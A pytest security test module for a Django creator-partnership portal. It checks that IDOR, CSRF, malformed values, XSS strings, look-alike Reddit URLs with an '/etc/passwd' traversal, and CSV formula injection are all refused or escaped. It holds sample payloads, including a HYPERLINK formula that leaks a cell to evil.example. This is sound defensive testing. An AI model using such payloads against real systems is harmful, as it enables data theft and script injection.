"""An adversarial probe of issue 21 from the creator's side and around it: a hostile creator (hidden
ids of another partnership, values that do not parse, terms they may not touch, a piece the brand
cancelled), a viewer and another organization (writes refused), an agency API client (bad filters,
read keys), and the ledger's webhook told twice. Each test says what it attacks."""

from __future__ import annotations

from datetime import date, timedelta
from decimal import Decimal

import pytest
from django.conf import settings
from django.test import Client
from django.utils import timezone

# tests/security/conftest.py replaces ``db`` with the permission matrix's module-wide world; these
# tests build their own records with tests/conftest.py's per-test fixtures, so pytest-django's own.
from pytest_django.fixtures import db  # noqa: F401
from rest_framework.test import APIClient

from api.keys import api_key_create
from partnerships import signals
from partnerships.creator_portal.links import creator_link_issue
from partnerships.creator_portal.terms import terms_sha256
from partnerships.disclosure_reddit import is_reddit_link, reddit_link
from partnerships.models import (
    Agreement,
    AgreementAcceptance,
    AgreementStatus,
    CounterProposal,
    Deliverable,
    DeliverableStatus,
    Payment,
    PaymentStatus,
    ReviewRights,
)
from partnerships.payments.services import payments_schedule, payments_tell_due
from partnerships.services.handins import deliverable_hand_in
from tests.creator_portal.conftest import csrf_post, make_offer

pytestmark = pytest.mark.django_db


def _open(token: str) -> Client:
    client = Client(enforce_csrf_checks=True, HTTP_USER_AGENT="Phone/1.0")
    assert client.get(f"/c/{token}/").status_code == 302
    return client


@pytest.fixture
def ivy(partnership_a, manager_a):
    """Ivy's link to her partnership with brand A, and a browser that opened it."""
    offer = make_offer(partnership_a)
    link, token = creator_link_issue(partnership=partnership_a, actor=manager_a)
    return link, _open(token), offer


def test_hidden_ids_naming_another_partnership_change_nothing(ivy, partnership_b):
    """IDOR by hidden fields: Ivy's cookie, with forms naming the agreement and deliverable of her
    partnership with another organization's brand (ids she could guess), accepts, proposes, hands in
    and publishes nothing there."""
    _, client, _ = ivy
    theirs = make_offer(partnership_b)
    piece = Deliverable.objects.create(partnership=partnership_b, agreement=theirs, title="Theirs")
    answers = [
        csrf_post(client, "/creator/accept/", {"agreement": theirs.pk, "terms_sha256": terms_sha256(theirs),
                                               "full_name": "Ivy"}),
        csrf_post(client, "/creator/propose/", {"agreement": theirs.pk, "term": "usage_rights_days", "value": "7"}),
        csrf_post(client, "/creator/hand-in/", {"deliverable": piece.pk, "url": "https://example.com/x"}),
        csrf_post(client, f"/creator/published/{piece.pk}/", {"url": "https://example.com/x"}),
    ]  # fmt: skip
    assert [a.status_code for a in answers] == [400, 400, 404, 404]
    theirs.refresh_from_db()
    piece.refresh_from_db()
    assert theirs.status == AgreementStatus.SENT
    assert not AgreementAcceptance.objects.exists() and not CounterProposal.objects.exists()
    assert piece.handed_in_at is None and piece.status != DeliverableStatus.PUBLISHED
    for answer in answers:
        assert b"Theirs" not in answer.content


def test_portal_posts_without_the_csrf_token_are_refused(ivy):
    """CSRF: a page elsewhere posting to the portal with the creator's cookie (sent: SameSite=Lax
    lets top-level POSTs through in old browsers) accepts nothing."""
    _, client, offer = ivy
    answer = client.post("/creator/accept/", {"agreement": offer.pk, "terms_sha256": terms_sha256(offer),
                                              "full_name": "Ivy"})  # fmt: skip
    assert answer.status_code == 403
    offer.refresh_from_db()
    assert offer.status == AgreementStatus.SENT


@pytest.mark.parametrize(
    ("term", "value"),
    [
        ("compensation_amount", "NaN"),
        ("compensation_amount", "Infinity"),
        ("compensation_amount", "1e999999"),
        ("compensation_amount", "-5"),
        ("compensation_amount", "12,50"),
        ("usage_rights_days", "99999999999999999999999"),
        ("usage_rights_days", "-1"),
        ("ends_on", "2026-02-30"),
        ("ends_on", "99999-01-01"),
        ("ends_on", "2025-01-01"),  # before the start: the agreement's own rules
        ("brand_review_rights", "veto"),
        ("disclosure_required", "perhaps"),
        ("currency", "EURO"),
        ("affiliate_share_percent", "250"),
        ("compensation_amount", "\x00"),
    ],
)
def test_counter_proposal_values_that_do_not_parse_are_a_form_error(ivy, term, value):
    """A hostile creator's counter-proposal values (not-a-number, infinities, huge numbers, other
    digits, impossible dates, choices that do not exist, a NUL): a 400 on the page with the error at
    the value, never a 500 and never a proposal recorded."""
    _, client, offer = ivy
    assert term in Agreement.CREATOR_TERM_FIELDS
    answer = csrf_post(client, "/creator/propose/", {"agreement": offer.pk, "term": term, "value": value})
    assert answer.status_code == 400
    assert answer.context["propose_form"].errors
    assert not CounterProposal.objects.exists()


@pytest.mark.parametrize("term", ["status", "notes", "signed_on", "partnership", "replaces", "created_by"])
def test_terms_outside_the_creators_terms_cannot_be_proposed(ivy, term):
    """A proposal naming a field that is not a term the creator reads (the status, the internal
    notes, the signature date, the partnership) is refused, by the form and by the service."""
    from django.core.exceptions import ValidationError

    from partnerships.creator_portal.acceptance import counter_proposal_create

    link, client, offer = ivy
    answer = csrf_post(client, "/creator/propose/", {"agreement": offer.pk, "term": term, "value": "signed"})
    assert answer.status_code == 400
    with pytest.raises(ValidationError):
        counter_proposal_create(link=link, agreement=offer, changes={term: "signed"})
    assert not CounterProposal.objects.exists()


def test_only_the_version_on_offer_with_the_terms_shown_can_be_accepted(ivy, partnership_a):
    """Accepting a cancelled version, a superseded one, or the offer with a stale hash (the manager
    changed the amount after the page was opened) records no signature."""
    _, client, offer = ivy
    shown = terms_sha256(offer)
    cancelled = make_offer(partnership_a, status=AgreementStatus.CANCELLED, starts_on=date(2027, 1, 1),
                           ends_on=date(2027, 6, 30))  # fmt: skip
    superseded = make_offer(partnership_a, status=AgreementStatus.SUPERSEDED, starts_on=date(2025, 1, 1),
                            ends_on=date(2025, 6, 30))  # fmt: skip
    for version in (cancelled, superseded):
        answer = csrf_post(client, "/creator/accept/", {"agreement": version.pk, "terms_sha256": terms_sha256(version),
                                                        "full_name": "Ivy"})  # fmt: skip
        assert answer.status_code == 400
    Agreement.objects.filter(pk=offer.pk).update(compensation_amount=Decimal("50"))
    answer = csrf_post(client, "/creator/accept/", {"agreement": offer.pk, "terms_sha256": shown, "full_name": "Ivy"})
    assert answer.status_code == 400
    assert b"terms changed" in answer.content
    assert not AgreementAcceptance.objects.exists()
    assert set(Agreement.objects.values_list("status", flat=True)) == {"sent", "cancelled", "superseded"}


def test_markup_typed_by_the_creator_is_text_on_both_sides(ivy, partnership_a, manager_a):
    """HTML/JS injection through the typed full name, a proposal's note, a hand-in's note and title:
    shown as text on the partnership page (the manager's) and on the creator's; a javascript: or
    data: link is refused as a hand-in."""
    _, client, offer = ivy
    evil = '<script>alert(1)</script><img src=x onerror=alert(2)>"'
    csrf_post(client, "/creator/propose/", {"agreement": offer.pk, "term": "usage_rights_days", "value": "30",
                                            "note": evil})  # fmt: skip
    piece = Deliverable.objects.create(partnership=partnership_a, agreement=offer, title="Review")
    for url in ("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "JaVaScRiPt://x%0aalert(1)"):
        answer = csrf_post(client, "/creator/hand-in/", {"deliverable": piece.pk, "url": url})
        assert answer.status_code == 400
    csrf_post(client, "/creator/hand-in/", {"title": evil, "url": "https://example.com/p", "note": evil})
    csrf_post(client, "/creator/accept/", {"agreement": offer.pk, "terms_sha256": terms_sha256(offer),
                                           "full_name": evil})  # fmt: skip
    assert AgreementAcceptance.objects.count() == 1
    manager = Client()
    manager.force_login(manager_a)
    for page in (manager.get(f"/partnerships/{partnership_a.pk}/"), client.get("/creator/")):
        assert page.status_code == 200
        assert b"<script>alert(1)" not in page.content and b"<img src=x" not in page.content
        assert b"javascript:" not in page.content.lower()


def test_a_piece_the_brand_cancelled_cannot_be_published_by_the_creator(ivy, partnership_a):
    """A handed-in piece awaiting the brand's factual check, then cancelled by the brand: the
    creator's "It is published" (a form they kept open, or a crafted POST) must not bring it back
    as published (and so owed a fee on publication)."""
    _, client, offer = ivy
    assert offer.brand_review_rights == ReviewRights.FACTUAL_CHECK
    piece = Deliverable.objects.create(partnership=partnership_a, agreement=offer, title="Review")
    Agreement.objects.filter(pk=offer.pk).update(status=AgreementStatus.SIGNED, signed_on=date(2026, 1, 1))
    deliverable_hand_in(partnership=partnership_a, url="https://example.com/p", deliverable=piece)
    Deliverable.objects.filter(pk=piece.pk).update(status=DeliverableStatus.CANCELLED)
    answer = csrf_post(client, f"/creator/published/{piece.pk}/", {"url": "", "disclosed": "on"})
    assert answer.status_code == 400
    piece.refresh_from_db()
    assert piece.status == DeliverableStatus.CANCELLED and piece.published_at is None


def test_a_viewer_writes_nothing_of_issue_21(partnership_a, viewer_a, manager_a):
    """A viewer-role member posts every manager action of the feature: make or revoke the creator's
    link, answer a proposal, approve, pay or cancel a payment. Each is refused; nothing changes."""
    offer = make_offer(partnership_a, status=AgreementStatus.SIGNED, signed_on=date(2026, 1, 1))
    link, _ = creator_link_issue(partnership=partnership_a, actor=manager_a)
    changes = [{"term": "usage_rights_days", "value": 7, "note": ""}]
    proposal = CounterProposal.objects.create(agreement=offer, link=link, note="", changes=changes)
    [payment] = payments_schedule(agreement=offer, today=date(2026, 1, 2))
    viewer = Client()
    viewer.force_login(viewer_a)
    posts = [
        (f"/partnerships/{partnership_a.pk}/creator-link/", {"days": 3}),
        (f"/creator-links/{link.pk}/revoke/", {}),
        (f"/counter-proposals/{proposal.pk}/accept/", {"note": "ok"}),
        (f"/counter-proposals/{proposal.pk}/decline/", {"note": "no"}),
        (f"/payments/{payment.pk}/approve/", {}),
        (f"/payments/{payment.pk}/paid/", {"paid_on": "2026-01-02", "reference": "X"}),
        (f"/payments/{payment.pk}/cancel/", {"reason": "no"}),
    ]
    assert [viewer.post(url, data).status_code for url, data in posts] == [403] * len(posts)
    link.refresh_from_db()
    proposal.refresh_from_db()
    payment.refresh_from_db()
    assert link.revoked_at is None and proposal.status == CounterProposal.Status.OPEN
    assert payment.status == PaymentStatus.DUE


def test_payments_api_refuses_read_keys_other_organizations_and_bad_filters(partnership_a, org_a, org_b):
    """An agency API client: a read key cannot approve, pay or cancel (403); a write key of another
    organization does not see the payment (404); filters with bad values are a 400 naming the filter."""
    offer = make_offer(partnership_a, status=AgreementStatus.SIGNED, signed_on=date(2026, 1, 1))
    [payment] = payments_schedule(agreement=offer, today=date(2026, 1, 2))

    def client(org, scope):
        api = APIClient()
        api.credentials(HTTP_AUTHORIZATION=f"Bearer {api_key_create(organization=org, scope=scope)[1]}")
        return api

    reader, stranger = client(org_a, "read"), client(org_b, "write")
    actions = [("approve", {}), ("pay", {"paid_on": "2026-01-02", "reference": "X"}), ("cancel", {"reason": "no"})]
    for name, body in actions:
        assert reader.post(f"/api/v1/payments/{payment.pk}/{name}/", body, format="json").status_code == 403
        assert stranger.post(f"/api/v1/payments/{payment.pk}/{name}/", body, format="json").status_code == 404
    assert stranger.get("/api/v1/payments/").json()["results"] == []
    payment.refresh_from_db()
    assert payment.status == PaymentStatus.DUE
    bad = {"status": "owed", "partnership": "1e400", "agreement": "-1", "brand": "٣", "due_before": "2026-02-30",
           "due_after": "tomorrow", "overdue": "perhaps"}  # fmt: skip
    for name, value in bad.items():
        answer = reader.get("/api/v1/payments/", {name: value})
        assert answer.status_code == 400, (name, value)
        assert name in answer.json() or name in str(answer.json())


def test_payment_actions_with_bad_values_are_a_400_naming_the_field(partnership_a, org_a):
    """The API's pay and cancel with values that do not parse or are out of bounds: a date in the
    future, an impossible date, a blank or overlong reference, no reason. A 400 naming the field."""
    offer = make_offer(partnership_a, status=AgreementStatus.SIGNED, signed_on=date(2026, 1, 1))
    [payment] = payments_schedule(agreement=offer, today=date(2026, 1, 2))
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {api_key_create(organization=org_a, scope='write')[1]}")
    future = (timezone.localdate() + timedelta(days=2)).isoformat()
    cases = [
        ("pay", {"paid_on": future, "reference": "X"}, "paid_on"),
        ("pay", {"paid_on": "2026-02-30", "reference": "X"}, "paid_on"),
        ("pay", {"paid_on": "2026-01-02", "reference": "   "}, "reference"),
        ("pay", {"paid_on": "2026-01-02", "reference": "x" * 201}, "reference"),
        ("pay", {"paid_on": ["2026-01-02"], "reference": {"a": 1}}, "paid_on"),
        ("cancel", {"reason": ""}, "reason"),
    ]
    for name, body, field in cases:
        answer = api.post(f"/api/v1/payments/{payment.pk}/{name}/", body, format="json")
        assert answer.status_code == 400, (name, body, answer.content)
        assert field in answer.json(), answer.json()
    payment.refresh_from_db()
    assert payment.status == PaymentStatus.DUE


def test_the_payment_due_webhook_is_told_once(partnership_a):
    """The daily run twice (or two workers at once) tells ``payment.due`` once per payment; a
    payment cancelled before it fell due is never told."""
    offer = make_offer(partnership_a, status=AgreementStatus.SIGNED, signed_on=date(2026, 1, 1))
    payments_schedule(agreement=offer, today=date(2026, 1, 2))
    told = []

    def listen(sender, payment, **kwargs):
        told.append(payment.pk)

    signals.payment_due.connect(listen)
    try:
        from django.test import TestCase

        with TestCase.captureOnCommitCallbacks(execute=True):
            first = payments_tell_due(today=date(2026, 12, 31))
        with TestCase.captureOnCommitCallbacks(execute=True):
            second = payments_tell_due(today=date(2026, 12, 31))
    finally:
        signals.payment_due.disconnect(listen)
    assert (first, second) == (1, 0) and len(told) == 1


@pytest.mark.parametrize(
    ("url", "read_as"),
    [
        ("https://reddit.com.evil.example/r/pens/comments/abc123/x/", None),
        ("https://evil.example/?u=https://www.reddit.com/r/pens/comments/abc123/x/", None),
        ("https://www.reddit.com@evil.example/r/pens/comments/abc123/x/", None),
        ("https://evil.example@www.reddit.com:8443/r/pens/comments/abc123/x/", "abc123"),
        ("https://redd.it/abc123/../../etc/passwd", None),
        ("https://redd.it/abc123", "abc123"),
        ("https://www.reddit.com/r/pens/comments/abc123/x/def456/", "abc123"),
        ("ftp://www.reddit.com/r/pens/comments/abc123/", None),
        ("https://www.reddit.com/r/pens/comments/ABC123%2F..%2F/", None),
        ("https://[::1]/r/pens/comments/abc123/", None),
    ],
)
def test_the_disclosure_check_only_ever_asks_reddit_for_a_post_id(url, read_as):
    """Odd Reddit-looking URLs (a look-alike host, userinfo, ports, paths, other schemes): at most
    a post id is taken; the pasted host is never what is fetched (the client talks to Reddit's API
    through the operator's configured addresses only)."""
    found = reddit_link(url)
    assert (found.post if found else None) == read_as
    if read_as is None and not url.startswith("https://redd.it/") and "reddit.com/" not in url.split("@")[-1]:
        assert not is_reddit_link(url)


def test_the_token_is_in_no_record_the_feature_writes(ivy, partnership_a, manager_a):
    """After the link is made and used for everything (open, accept, propose, hand in), the token
    appears in no row of the database: timeline, uses, acceptance, proposals, history."""
    from django.apps import apps

    link, token = creator_link_issue(partnership=partnership_a, actor=manager_a)
    client = _open(token)
    offer = Agreement.objects.get(partnership=partnership_a)
    csrf_post(client, "/creator/propose/", {"agreement": offer.pk, "term": "usage_rights_days", "value": "30"})
    csrf_post(client, "/creator/accept/", {"agreement": offer.pk, "terms_sha256": terms_sha256(offer),
                                           "full_name": "Ivy"})  # fmt: skip
    csrf_post(client, "/creator/hand-in/", {"title": "Extra", "url": "https://example.com/e"})
    for model in apps.get_models():
        for row in model.objects.all().values():
            assert token not in repr(row), model
    assert settings.SESSION_COOKIE_NAME not in client.cookies or token not in client.cookies.output()


def test_a_new_version_of_an_agreement_the_brand_cancelled_cannot_be_signed(ivy, partnership_a, manager_a):
    """The brand writes a new version of the signed terms, then cancels the agreement itself before
    the creator answers: the creator's page offered the new version, and accepting it (a page kept
    open, or the link opened again) must not sign terms of an agreement the brand ended."""
    from partnerships.services.agreements import agreement_new_version, agreement_update_terms

    _, client, offer = ivy
    Agreement.objects.filter(pk=offer.pk).update(status=AgreementStatus.SIGNED, signed_on=date(2026, 1, 1))
    offer.refresh_from_db()
    version = agreement_new_version(agreement=offer, actor=manager_a, usage_rights_days=30)
    shown = terms_sha256(version)
    agreement_update_terms(agreement=offer, actor=manager_a, status=AgreementStatus.CANCELLED)
    answer = csrf_post(client, "/creator/accept/", {"agreement": version.pk, "terms_sha256": shown,
                                                    "full_name": "Ivy"})  # fmt: skip
    assert answer.status_code == 400
    version.refresh_from_db()
    assert version.status != AgreementStatus.SIGNED
    assert not AgreementAcceptance.objects.exists()
    assert not Payment.objects.filter(agreement=version).exists()
    assert b"I accept these terms" not in client.get("/creator/").content


def test_a_version_left_waiting_under_a_cancelled_agreement_cannot_be_signed(ivy, manager_a):
    """The same attack on rows written before the cancellation took waiting versions with it (a
    draft still waiting while the agreement it changes is cancelled): accepting is refused."""
    from partnerships.creator_portal.acceptance import agreement_accept
    from partnerships.services.agreements import agreement_new_version

    link, _, offer = ivy
    Agreement.objects.filter(pk=offer.pk).update(status=AgreementStatus.SIGNED, signed_on=date(2026, 1, 1))
    offer.refresh_from_db()
    version = agreement_new_version(agreement=offer, actor=manager_a, usage_rights_days=30)
    Agreement.objects.filter(pk=offer.pk).update(status=AgreementStatus.CANCELLED)
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError) as refused:
        agreement_accept(link=link, agreement=version, full_name="Ivy", terms_sha256=terms_sha256(version))
    assert "agreement" in refused.value.message_dict
    version.refresh_from_db()
    assert version.status == AgreementStatus.DRAFT and not AgreementAcceptance.objects.exists()


def test_new_version_through_the_api_refuses_what_it_must(partnership_a, org_a, org_b):
    """An agency API client asks for new versions: with a read key (403), another organization's
    key (404), the status or signature date smuggled in (ignored: a new version is a draft), values
    that do not parse (400 naming the term), of a cancelled agreement (400), twice (one waits)."""
    offer = make_offer(partnership_a, status=AgreementStatus.SIGNED, signed_on=date(2026, 1, 1))

    def client(org, scope):
        api = APIClient()
        api.credentials(HTTP_AUTHORIZATION=f"Bearer {api_key_create(organization=org, scope=scope)[1]}")
        return api

    url = f"/api/v1/agreements/{offer.pk}/new-version/"
    writer = client(org_a, "write")
    assert client(org_a, "read").post(url, {"usage_rights_days": 7}, format="json").status_code == 403
    assert client(org_b, "write").post(url, {"usage_rights_days": 7}, format="json").status_code == 404
    for body, field in [({"compensation_amount": "NaN"}, "compensation_amount"),
                        ({"compensation_amount": "1e400"}, "compensation_amount"),
                        ({"usage_rights_days": 10**30}, "usage_rights_days"),
                        ({"ends_on": "2026-02-30"}, "ends_on"),
                        ({"brand_review_rights": "veto"}, "brand_review_rights")]:  # fmt: skip
        answer = writer.post(url, body, format="json")
        assert answer.status_code == 400 and field in answer.json(), (body, answer.content)
    made = writer.post(url, {"usage_rights_days": 7, "status": "signed", "signed_on": "2026-01-01"}, format="json")
    assert made.status_code == 201 and made.json()["status"] == "draft"
    assert writer.post(url, {"usage_rights_days": 8}, format="json").status_code == 400
    assert Agreement.objects.filter(replaces=offer).count() == 1
    Agreement.objects.filter(pk=offer.pk).update(status=AgreementStatus.CANCELLED)
    Agreement.objects.filter(replaces=offer).delete()
    assert writer.post(url, {"usage_rights_days": 9}, format="json").status_code == 400
    assert not Agreement.objects.filter(replaces=offer).exists()


def test_a_tick_on_a_reddit_link_is_not_logged_as_the_creators_confirmation(ivy, partnership_a):
    """The creator ticks "my post discloses" while handing in a Reddit link (a post the product
    reads itself), including a host written with a trailing dot: the tick counts for nothing, so
    the link's log must not record "disclosure confirmed" for it (the manager would read a
    confirmation the product never took)."""
    from partnerships.models import CreatorLinkUse

    link, client, offer = ivy
    Agreement.objects.filter(pk=offer.pk).update(
        status=AgreementStatus.SIGNED, signed_on=date(2026, 1, 1), brand_review_rights=ReviewRights.NONE
    )
    for n, host in enumerate(("www.reddit.com", "www.reddit.com.")):
        url = f"https://{host}/r/pens/comments/abc12{n}/ink/"
        answer = csrf_post(client, "/creator/hand-in/", {"title": f"Post {n}", "url": url, "disclosed": "on"})
        assert answer.status_code == 302
    assert Deliverable.objects.filter(partnership=partnership_a, handed_in_at__isnull=False).count() == 2
    assert not Deliverable.objects.filter(disclosure_state="confirmed").exists()
    assert not link.uses.filter(action=CreatorLinkUse.Action.CONFIRMED_DISCLOSURE).exists()


def test_the_brand_payments_csv_runs_no_formula(partnership_a, manager_a, creator):
    """CSV formula injection through what the ledger's CSV writes from outside: the creator's name
    (from their profile), a payment's reference and a cancellation's reason typed by a manager.
    Every such cell opens as text."""
    import csv
    import io

    from partnerships.payments.services import payment_cancel, payment_mark_paid

    creator.display_name = '=HYPERLINK("https://evil.example/?"&A1,"x")'
    creator.save()
    offer = make_offer(partnership_a, status=AgreementStatus.SIGNED, signed_on=date(2026, 1, 1),
                       compensation_type="fee_and_affiliate", affiliate_share_percent=Decimal("10"),
                       fee_schedule="monthly")  # fmt: skip
    first, second, *_ = payments_schedule(agreement=offer, today=date(2026, 3, 2))
    payment_mark_paid(payment=first, actor=manager_a, paid_on=date(2026, 2, 1), reference="=1+1")
    payment_cancel(payment=second, actor=manager_a, reason="@SUM(A1:A9)")
    manager = Client()
    manager.force_login(manager_a)
    answer = manager.get(f"/brands/{partnership_a.brand_id}/payments.csv")
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.content.decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells, rows
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert "'=1+1" in cells and "'@SUM(A1:A9)" in cells


def _both_at_once(*works) -> list:
    """Each of ``works`` in its own thread and database connection, released together; what each
    returned, the refusal it met, or ("failed", error) for anything else (a deadlock)."""
    import threading

    from django.core.exceptions import ValidationError
    from django.db import connections

    barrier, outcomes = threading.Barrier(len(works)), []

    def run(work):
        try:
            barrier.wait(timeout=30)
            try:
                outcomes.append(work())
            except ValidationError as refused:
                outcomes.append(refused)
            except Exception as error:  # noqa: BLE001 - a deadlock or any other failure is the finding
                outcomes.append(("failed", error))
        finally:
            connections.close_all()

    threads = [threading.Thread(target=run, args=(work,)) for work in works]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return outcomes


@pytest.mark.django_db(transaction=True)
def test_cancelling_and_accepting_at_once_end_in_one_consistent_state(partnership_a, manager_a):
    """A race, on PostgreSQL: the brand cancels the signed agreement while the creator accepts the
    new version waiting under it, ten times over. Neither deadlocks (no 500); each ends either
    cancelled with its version (no signature) or signed in the new version (the cancellation
    refused, as a replaced version's terms no longer change)."""
    from django.db import connection

    from partnerships.creator_portal.acceptance import agreement_accept
    from partnerships.services.agreements import agreement_new_version, agreement_update_terms

    if connection.vendor != "postgresql":
        pytest.skip("Concurrent requests need PostgreSQL (SQLite runs one write at a time): run with DATABASE_URL.")
    link, _ = creator_link_issue(partnership=partnership_a, actor=manager_a)
    for year in range(2030, 2040):
        offer = make_offer(partnership_a, status=AgreementStatus.SIGNED, signed_on=date(2026, 1, 1),
                           starts_on=date(year, 1, 1), ends_on=date(year, 12, 31))  # fmt: skip
        version = agreement_new_version(agreement=offer, actor=manager_a, usage_rights_days=30)
        outcomes = _both_at_once(
            lambda offer=offer: agreement_update_terms(
                agreement=Agreement.objects.get(pk=offer.pk), actor=manager_a, status=AgreementStatus.CANCELLED
            ),
            lambda version=version: agreement_accept(
                link=link, agreement=Agreement.objects.get(pk=version.pk), full_name="Ivy",
                terms_sha256=terms_sha256(version),
            ),
        )  # fmt: skip
        assert not [o for o in outcomes if isinstance(o, tuple)], outcomes
        offer.refresh_from_db()
        version.refresh_from_db()
        signed = AgreementAcceptance.objects.filter(agreement=version).exists()
        assert (offer.status, version.status, signed) in (
            (AgreementStatus.CANCELLED, AgreementStatus.CANCELLED, False),
            (AgreementStatus.SUPERSEDED, AgreementStatus.SIGNED, True),
        )


def test_a_long_full_name_signs_and_is_kept_whole(ivy):
    """A creator types a long full name (200 characters, the field's limit, in several scripts):
    the signature is recorded (not a 500: the history's change reason has 100 characters on
    PostgreSQL), the acceptance keeps the name whole, the history says who in as much as fits."""
    _, client, offer = ivy
    name = ("Ana María José Łukasz Ñúñez-Øster 李小龍 " * 6)[:200].strip()
    answer = csrf_post(client, "/creator/accept/", {"agreement": offer.pk, "terms_sha256": terms_sha256(offer),
                                                    "full_name": name})  # fmt: skip
    assert answer.status_code == 302
    acceptance = AgreementAcceptance.objects.get(agreement=offer)
    assert acceptance.full_name == " ".join(name.split())
    reason = offer.history.latest().history_change_reason
    assert reason.startswith("Accepted by Ana María") and len(reason) <= 100


def test_the_ledger_counts_sales_by_local_month_and_prorates_a_leap_february(partnership_a, settings):
    """Money at the edges: in Auckland (UTC+13 in summer), a sale at 00:30 on 1 February local time
    is 31 January in UTC and belongs to February's share; a monthly fee starting 15 February 2028
    (a leap year) is 15/29 of the fee. By hand: January 10 % × 100.00 = 10.00, February
    10 % × 55.55 = 5.555 → 5.56 (half-up); fee 290.00 × 15 / 29 = 150.00."""
    from datetime import datetime
    from zoneinfo import ZoneInfo

    from partnerships.models import ReferralEvent, ReferralEventKind, ReferralLink

    settings.TIME_ZONE = "Pacific/Auckland"
    auckland = ZoneInfo("Pacific/Auckland")
    link = ReferralLink.objects.create(partnership=partnership_a, code="ivy", destination_url="https://r.example/")
    sales = [(datetime(2026, 1, 31, 23, 30), "100.00"), (datetime(2026, 2, 1, 0, 30), "55.55")]
    for n, (at, amount) in enumerate(sales):
        ReferralEvent.objects.create(link=link, kind=ReferralEventKind.SALE, occurred_at=at.replace(tzinfo=auckland),
                                     amount=Decimal(amount), currency="EUR", external_id=f"o-{n}")  # fmt: skip
    share = make_offer(partnership_a, status=AgreementStatus.SIGNED, signed_on=date(2026, 1, 1),
                       compensation_type="affiliate_share", compensation_amount=None,
                       affiliate_share_percent=Decimal("10"))  # fmt: skip
    owed = {p.key: p.amount for p in payments_schedule(agreement=share, today=date(2026, 3, 1))}
    assert owed == {"affiliate:2026-01": Decimal("10.00"), "affiliate:2026-02": Decimal("5.56")}
    fee = make_offer(partnership_a, status=AgreementStatus.SIGNED, signed_on=date(2028, 2, 1),
                     starts_on=date(2028, 2, 15), ends_on=date(2028, 3, 31), fee_schedule="monthly",
                     compensation_amount=Decimal("290.00"))  # fmt: skip
    owed = {p.key: p.amount for p in payments_schedule(agreement=fee, today=date(2028, 4, 1))}
    assert owed == {"month:2028-02": Decimal("150.00"), "month:2028-03": Decimal("290.00")}
